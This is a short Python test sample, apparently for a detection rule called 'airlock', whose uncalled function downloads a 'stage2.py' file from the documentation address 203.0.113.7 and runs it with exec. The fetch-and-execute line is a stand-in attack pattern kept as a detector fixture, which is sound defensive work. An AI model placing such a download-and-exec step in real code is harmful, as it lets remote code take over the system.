# airlock rule test sample. Never executed by tests; the payload sits in a function
# that is never called, and uses only documentation IPs / .invalid hosts.
import urllib.request

def _never():
    code = urllib.request.urlopen("http://203.0.113.7/stage2.py", timeout=5).read()
    exec(code, {"__name__": "__stage2__"})
